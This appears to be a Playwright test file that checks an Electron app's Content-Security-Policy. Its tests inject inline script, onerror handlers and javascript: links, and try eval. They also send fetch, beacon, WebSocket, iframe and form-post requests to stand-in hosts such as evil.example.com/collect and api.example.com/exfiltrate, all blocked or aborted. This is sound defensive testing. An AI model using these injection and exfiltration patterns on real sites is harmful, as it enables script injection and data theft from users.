/**
 * The renderer's side of the Electron security checklist, in Chromium
 * through the harness: what an attacker's script would try once it got text
 * into the page — run inline script, eval, load a remote script, send data
 * to another host — is refused by the Content-Security-Policy, and the app
 * itself loads without tripping it.
 *
 * Electron enforces two policies at once: the <meta> of index.html and the
 * header app:// sends (CONTENT_SECURITY_POLICY in src-main/electron/security.ts).
 * The harness sends the <meta> as a header; these tests add the app://
 * header beside it, so Chromium enforces both, as Electron does.
 * (window.sla's keys and the absence of require/process/module are in harness.spec.ts;
 * navigation, new windows and permissions are refused in main: src-main/electron/guards.test.ts.)
 */
import type { Page } from '@playwright/test';
import { CONTENT_SECURITY_POLICY } from '../src-main/electron/security';
import { expect, test } from './fixtures';
import { ContractPreviewPanel } from './page-models/ContractPreview';
import { HomePage } from './page-models/HomePage';
import { WizardPage } from './page-models/WizardPage';

interface Violation {
  directive: string;
  blockedURI: string;
}

/** Serve the page with the app:// policy as a second header policy, and record every violation from the first script on. */
async function openWithBothPolicies(page: Page, url: string): Promise<void> {
  await page.addInitScript(() => {
    const seen: Violation[] = [];
    Object.defineProperty(window, '__cspViolations', { value: seen });
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI });
    });
  });
  await page.route(
    (target) => target.origin === new URL(url).origin && !target.pathname.startsWith('/api/'),
    async (route) => {
      if (route.request().resourceType() !== 'document') return route.continue();
      const response = await route.fetch();
      const harnessPolicy = response.headers()['content-security-policy'];
      // Two policies in one header, comma-separated: a resource must pass both (CSP Level 3, 'enforce multiple policies').
      await route.fulfill({
        response,
        headers: { ...response.headers(), 'content-security-policy': [harnessPolicy, CONTENT_SECURITY_POLICY].filter(Boolean).join(', ') },
      });
    },
  );
  await page.goto(url);
  await new HomePage(page).expectShown();
}

const violations = (page: Page) => page.evaluate(() => [...(window as unknown as { __cspViolations: Violation[] }).__cspViolations]);

/** Waits until each of these directives has been reported at least once (reports arrive as events, after the attempt). */
async function expectViolations(page: Page, directives: string[]): Promise<void> {
  await expect
    .poll(async () => (await violations(page)).map((violation) => violation.directive).sort())
    .toEqual(expect.arrayContaining([...directives].sort()));
}

test.describe('Content-Security-Policy, seen from the page', () => {
  /** Requests that got past the page's own checks and would have reached another host. */
  let escaped: string[];

  test.beforeEach(async ({ page, harness }) => {
    escaped = [];
    const origin = new URL(harness.url).origin;
    // The CSP stops a request inside the renderer, before it reaches the network layer where
    // routes sit: whatever arrives here got past it. Aborted, so nothing leaves the machine.
    await page.context().route(
      (url) => url.origin !== origin && url.protocol !== 'data:',
      (route) => {
        escaped.push(route.request().url());
        return route.abort();
      },
    );
    await openWithBothPolicies(page, harness.url);
  });

  test.afterEach(() => {
    expect(escaped).toEqual([]);
  });

  test('the app loads and runs without a single violation, into the wizard and its contract preview', async ({ page }) => {
    await new HomePage(page).createFromPreset('enterprise');
    await new WizardPage(page).expectStep(1, 'Services');
    await expect(new ContractPreviewPanel(page).region).toBeVisible();
    expect(await violations(page)).toEqual([]);
  });

  test('blocks inline script injected into the page, in every form', async ({ page }) => {
    await page.evaluate(() => {
      // A <script> element with inline text, as an HTML-injection would add one.
      const script = document.createElement('script');
      script.textContent = 'window.__pwnedByScript = 1';
      document.body.append(script);
      // An inline event handler.
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.__pwnedByHandler = 1');
      image.src = 'data:,not-an-image';
      document.body.append(image);
      // HTML put in with innerHTML: its <script> never runs, its handlers would.
      const box = document.createElement('div');
      box.innerHTML = '<script>window.__pwnedByInnerHtml = 1</script><img src="data:," onerror="window.__pwnedByInnerHtml = 1">';
      document.body.append(box);
      // A javascript: link clicked.
      const link = document.createElement('a');
      link.href = 'javascript:window.__pwnedByLink = 1';
      document.body.append(link);
      link.click();
    });
    // Each refusal is reported as it happens: once the three certain ones are in, anything allowed would have run.
    await expect
      .poll(async () => (await violations(page)).filter((violation) => violation.directive.startsWith('script-src')).length)
      .toBeGreaterThanOrEqual(3);
    await expectViolations(page, ['script-src-elem', 'script-src-attr']);
    const ran = await page.evaluate(() => ['__pwnedByScript', '__pwnedByHandler', '__pwnedByInnerHtml', '__pwnedByLink'].filter((flag) => flag in window));
    expect(ran).toEqual([]);
  });

  test("refuses eval, new Function and string timers in the page's own scripts", async ({ page, harness }) => {
    // Code Playwright evaluates is exempt from the CSP's eval rule (DevTools' privilege), so the
    // attempts run from a script of the app's own origin, which 'self' lets load, as a bundled one would.
    const probe = `${new URL(harness.url).origin}/assets/csp-probe.js`;
    await page.route(probe, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `
          const attempt = (run) => { try { run(); return 'ran'; } catch (error) { return error.name; } };
          window.__evalProbe = {
            eval: attempt(() => (0, eval)('1 + 1')),
            newFunction: attempt(() => new Function('return 1')()),
            timer: attempt(() => setTimeout('window.__pwnedByTimer = 1', 0)),
          };`,
      }),
    );
    await page.evaluate((src) => {
      const script = document.createElement('script');
      script.src = src;
      document.body.append(script);
    }, probe);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { __evalProbe?: unknown }).__evalProbe))
      .toEqual({
        eval: 'EvalError',
        newFunction: 'EvalError',
        // A string timer is dropped without an exception; the violation and the missing flag are the evidence.
        timer: 'ran',
      });
    // One violation per attempt, the timer's included; by then a timer that was let through has had its turn.
    await expect.poll(async () => (await violations(page)).filter((violation) => violation.blockedURI === 'eval').length).toBeGreaterThanOrEqual(3);
    await expectViolations(page, ['script-src']);
    expect(await page.evaluate(() => '__pwnedByTimer' in window)).toBe(false);
  });

  test('keeps remote scripts, images, frames, requests and forms out', async ({ page }) => {
    const results = await page.evaluate(async () => {
      const loaded = (element: HTMLElement & { src?: string }, src: string) =>
        new Promise<string>((resolve) => {
          element.addEventListener('load', () => resolve('loaded'));
          element.addEventListener('error', () => resolve('blocked'));
          // Neither event within the test's time would be a finding of its own, not a pass.
          setTimeout(() => resolve('no answer'), 5_000);
          element.src = src;
          document.body.append(element);
        });
      const fetched = (url: string) =>
        fetch(url, { mode: 'no-cors' }).then(
          () => 'loaded',
          () => 'blocked',
        );
      const socket = () =>
        new Promise<string>((resolve) => {
          try {
            const ws = new WebSocket('wss://telemetry.example.com/');
            ws.onopen = () => resolve('loaded');
            ws.onerror = () => resolve('blocked');
          } catch {
            resolve('blocked');
          }
        });
      // sendBeacon answers whether it queued the beacon, not whether it was sent; the route guard is the evidence.
      navigator.sendBeacon('https://telemetry.example.com/beacon', 'draft');
      return {
        script: await loaded(document.createElement('script'), 'https://cdn.example.com/evil.js'),
        image: await loaded(document.createElement('img'), 'https://tracker.example.com/pixel.png'),
        fetch: await fetched('https://api.example.com/exfiltrate'),
        websocket: await socket(),
      };
    });
    expect(results).toEqual({ script: 'blocked', image: 'blocked', fetch: 'blocked', websocket: 'blocked' });

    // A frame and a form that would post the page's content elsewhere.
    const addressBefore = await page.evaluate(() => location.href);
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example.com/';
      document.body.append(frame);
      const form = document.createElement('form');
      form.action = 'https://evil.example.com/collect';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    });
    await expectViolations(page, ['script-src-elem', 'img-src', 'connect-src', 'frame-src', 'form-action']);
    // Still the app: the form did not take the window elsewhere. (Asked of the page itself, as
    // Playwright's locators would wait for the navigation the form announced and CSP cancelled.)
    expect(await page.evaluate(() => [location.href, document.querySelector('h1')?.textContent])).toEqual([
      addressBefore,
      expect.stringMatching(/Drafts|草案/),
    ]);
  });
});
